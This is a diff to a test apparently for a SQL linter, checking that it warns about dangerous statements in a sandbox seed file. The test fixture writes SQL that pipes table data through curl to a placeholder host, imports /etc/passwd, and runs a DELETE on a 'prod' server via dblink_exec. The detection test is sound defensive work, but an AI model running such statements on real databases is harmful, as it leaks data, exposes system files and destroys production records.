@@ -32,7 +32,7 @@ describe('a broken sandbox seed', () => {
     writeFileSync(join(dir, 's.sandbox.sql'), "CREATE TABLE t (id int);\nCOPY t TO PROGRAM 'curl -d @- http://x';\nSELECT lo_import('/etc/passwd');\nSELECT dblink_exec('host=prod', 'DELETE FROM t');\n");
     const result = await runCli(['lint', join(dir, 's.md')]);
     expect(result.code, result.stdout + result.stderr).toBe(0);
-    for (const what of ['COPY … PROGRAM', 'lo_import()', 'dblink_exec()']) expect(result.stdout).toContain(`uses ${what}`);
+    for (const what of ['(COPY … TO PROGRAM)', 'lo_import: reads a file', 'dblink_exec: connects to another server']) expect(result.stdout).toContain(what);
     expect(result.stdout).toContain('(seed-reach)');
   });
 });
